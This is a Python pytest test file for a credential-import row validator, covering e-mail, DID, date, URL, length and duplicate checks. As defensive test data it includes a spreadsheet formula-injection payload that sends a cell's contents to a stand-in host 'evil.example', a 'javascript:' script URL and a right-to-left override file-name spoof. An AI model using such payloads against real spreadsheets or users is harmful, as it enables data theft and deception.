"""Row validation: one reason per bad cell, named by row and column; duplicates in the file."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from microcred.imports import (
    ColumnMapping,
    DateOrder,
    ImportField,
    ImportRecord,
    RowValidator,
    SourceRow,
    validate_record,
)
from microcred.imports.validation import _SeenIndex

F = ImportField
TODAY = date(2026, 3, 1)
HEADERS = (
    "Name",
    "email",
    "DID",
    "Student ID",
    "Grade",
    "Evidence",
    "Issued",
    "Valid until",
    "Notes",
)
MAPPING = ColumnMapping(
    {
        F.NAME: "Name",
        F.EMAIL: "email",
        F.DID: "DID",
        F.EXTERNAL_ID: "Student ID",
        F.RESULT: "Grade",
        F.EVIDENCE_URL: "Evidence",
        F.ISSUE_DATE: "Issued",
        F.VALID_UNTIL: "Valid until",
    }
)


def check(row: int = 17, **cells: str):
    raw = {"Name": "Ada Lovelace", "email": "ada@example.org"}
    raw.update({key.replace("_", " "): value for key, value in cells.items()})
    return validate_record(row, raw, MAPPING, today=TODAY)


def reasons(**cells: str) -> list[str]:
    record, problems = check(**cells)
    assert record is None
    return [str(problem) for problem in problems]


def test_a_good_row() -> None:
    record, problems = validate_record(
        5,
        {
            "Name": "  Ada   Lovelace ",
            "email": "Ada.Lovelace@Example.ORG",
            "DID": "did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK",
            "Student ID": "s-1001",
            "Grade": "1,3",
            "Evidence": "https://portfolio.example/ada  http://example.org/x?y=1",
            "Issued": "30.06.2025",
            "Valid until": "2030-06-30",
            "Notes": "=anything goes in unmapped columns",
        },
        MAPPING,
        today=TODAY,
    )
    assert problems == []
    assert record == ImportRecord(
        row=5,
        name="Ada Lovelace",
        email="Ada.Lovelace@example.org",  # domain lower-cased, local part kept
        did="did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK",
        external_id="s-1001",
        result="1,3",
        evidence=("https://portfolio.example/ada", "http://example.org/x?y=1"),
        issue_date=date(2025, 6, 30),
        valid_until=date(2030, 6, 30),
    )


def test_message_names_row_and_column() -> None:
    assert reasons(email="not-an-address") == [
        "row 17, column 'email': 'not-an-address' is not an e-mail address"
    ]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("ada@example", "is not an e-mail address"),
        ("ada@@example.org", "is not an e-mail address"),
        ("ada example@example.org", "is not an e-mail address"),
        (".ada@example.org", "is not an e-mail address"),
        ("ada..l@example.org", "is not an e-mail address"),
        ("ada@-example.org", "is not an e-mail address"),
        ("ada@example.c", "is not an e-mail address"),
        ("a@example.org; b@example.org", "holds more than one address"),
        ("mailto:ada@example.org", "is a link"),
        ("Ada <ada@example.org>", "is not an e-mail address"),
        ('=HYPERLINK("http://x")', "is not an e-mail address"),
        ("a" * 65 + "@example.org", "is not an e-mail address"),
        ("a@" + "b" * 250 + ".org", "longer than 254"),
    ],
)
def test_bad_email_addresses(value: str, reason: str) -> None:
    (message,) = reasons(email=value)
    assert message.startswith("row 17, column 'email': ")
    assert reason in message


@pytest.mark.parametrize(
    "value", ["josé@exämple.de", "o'brien+tag@example.co.uk", "x@xn--bcher-kva.example"]
)
def test_international_addresses(value: str) -> None:
    record, problems = check(email=value)
    assert problems == [] and record is not None


def test_missing_name_and_contact() -> None:
    assert reasons(Name="", email="") == [
        "row 17, column 'Name': the learner's name is missing",
        "row 17, column 'email': the e-mail address is missing (and there is no DID)",
    ]


def test_a_did_is_enough() -> None:
    record, problems = check(email="", DID="did:web:learner.example")
    assert problems == [] and record is not None and record.email is None


def test_bad_did() -> None:
    (message,) = reasons(DID="did:bad")
    assert message.startswith("row 17, column 'DID': 'did:bad' is not a valid DID")


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ({"Name": "Ada\nLovelace"}, "column 'Name': contains a line break"),
        ({"Name": "Ada\x07"}, "column 'Name': contains a control character (U+0007)"),
        ({"Name": "Ada\tL"}, "column 'Name': contains a control character (U+0009)"),
        ({"Name": "evil\u202egnp.exe"}, "text-direction control character (U+202E)"),
        ({"Name": "x" * 301}, "column 'Name': longer than 300 characters"),
        ({"Student_ID": "x" * 201}, "column 'Student ID': longer than 200 characters"),
        ({"Grade": "x" * 201}, "column 'Grade': longer than 200 characters"),
        ({"Evidence": "javascript:alert(1)"}, "'javascript:alert(1)' is not an http(s) URL"),
        ({"Evidence": "portfolio.example/ada"}, "is not an http(s) URL"),
        ({"Evidence": "https://ok.example " + "https://x/" + "y" * 2050}, "longer than 2048"),
        ({"Issued": "31.02.2025"}, "column 'Issued': '31.02.2025' is not a valid calendar date"),
        ({"Issued": "2026-03-02"}, "column 'Issued': 2026-03-02 is in the future"),
        ({"Valid_until": "28.02.2026"}, "column 'Valid until': 2026-02-28 is in the past"),
        ({"Valid_until": "soon"}, "column 'Valid until': 'soon' is not a date"),
    ],
)
def test_cell_problems(cells: dict[str, str], expected: str) -> None:
    messages = reasons(**cells)
    assert any(expected in message for message in messages), messages


def test_valid_until_before_issue_date() -> None:
    assert reasons(Issued="2026-02-01", Valid_until="2026-01-31") == [
        "row 17, column 'Valid until': 2026-01-31 is in the past"
    ]
    mapping = ColumnMapping({F.NAME: "n", F.EMAIL: "e", F.ISSUE_DATE: "i", F.VALID_UNTIL: "v"})
    record, problems = validate_record(
        2,
        {"n": "A", "e": "a@example.org", "i": "2026-02-01", "v": "2026-03-05"},
        mapping,
        today=TODAY,
    )
    assert problems == [] and record is not None
    future_until = {"n": "A", "e": "a@example.org", "i": "2026-03-01", "v": "2026-03-01"}
    assert validate_record(2, future_until, mapping, today=TODAY)[1] == []


def test_month_first_dates() -> None:
    mapping = ColumnMapping({F.NAME: "n", F.EMAIL: "e", F.VALID_UNTIL: "v"})
    raw = {"n": "A", "e": "a@example.org", "v": "12/31/2030"}
    record, _ = validate_record(2, raw, mapping, today=TODAY, date_order=DateOrder.MDY)
    assert record is not None and record.valid_until == date(2030, 12, 31)
    _, problems = validate_record(2, raw, mapping, today=TODAY)
    assert "month-first" in problems[0].reason


def test_given_and_family_names_are_joined() -> None:
    mapping = ColumnMapping({F.GIVEN_NAME: "First", F.FAMILY_NAME: "Last", F.EMAIL: "Mail"})
    record, problems = validate_record(
        3, {"First": "Åse", "Last": "Østergaard", "Mail": "a@example.dk"}, mapping, today=TODAY
    )
    assert problems == [] and record is not None and record.name == "Åse Østergaard"
    _, problems = validate_record(3, {"First": "Åse", "Mail": "a@example.dk"}, mapping, today=TODAY)
    assert [str(p) for p in problems] == ["row 3, column 'Last': the family name is missing"]


def test_formula_looking_values_are_text() -> None:
    for payload in ('=HYPERLINK("http://evil.example?"&A1,"Click")', "+1+1", "@SUM(1)", "-2+3"):
        record, problems = check(Name=payload, Grade=payload)
        assert problems == [] and record is not None
        assert record.name == payload and record.result == payload


def _row(number: int, *cells: str) -> SourceRow:
    padded = tuple(cells) + ("",) * (len(HEADERS) - len(cells))
    return SourceRow(number, padded)


def test_validator_flags_later_duplicates_only() -> None:
    validator = RowValidator(HEADERS, MAPPING, today=TODAY)
    rows = [
        _row(2, "Ada", "ada@example.org", "", "s1"),
        _row(3, "Bob", "bob@example.org", "", "s2"),
        _row(5, "Ada again", "ADA@Example.org", "", "s3"),
        _row(6, "Carl", "carl@example.org", "", "S1"),
        _row(7, "Bad", "bad@", "", "s9"),
        _row(8, "Dup of bad", "dup@example.org", "", "s9"),
    ]
    checked = list(validator.check_rows(rows))
    assert [c.ok for c in checked] == [True, True, False, False, False, False]
    assert [str(p) for p in checked[2].problems] == [
        "row 5, column 'email': same e-mail address as row 2"
    ]
    assert [str(p) for p in checked[3].problems] == [
        "row 6, column 'Student ID': same student id as row 2"
    ]
    # a bad row still claims its student id, so its corrected re-import is not doubled
    assert checked[5].reason == "column 'Student ID': same student id as row 7"
    assert checked[0].raw == {"Name": "Ada", "email": "ada@example.org", "Student ID": "s1"}
    assert checked[0].reason is None


def test_values_beyond_the_header() -> None:
    validator = RowValidator(
        ("Name", "email"), ColumnMapping({F.NAME: "Name", F.EMAIL: "email"}), today=TODAY
    )
    checked = validator.check(SourceRow(4, ("Ada", "ada@example.org", "", "extra")))
    assert not checked.ok
    assert [str(p) for p in checked.problems] == [
        "row 4: the row has values beyond the last header column (column D)"
    ]
    assert checked.reason == "the row has values beyond the last header column (column D)"


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(max_size=6), max_size=400))
def test_seen_index_agrees_with_a_dict(keys: list[str]) -> None:
    index = _SeenIndex(capacity=4)
    expected: dict[str, int] = {}
    for row, key in enumerate(keys, start=2):
        assert index.first_row(key, row) == expected.get(key)
        expected.setdefault(key, row)
    assert len(index) == len(expected)
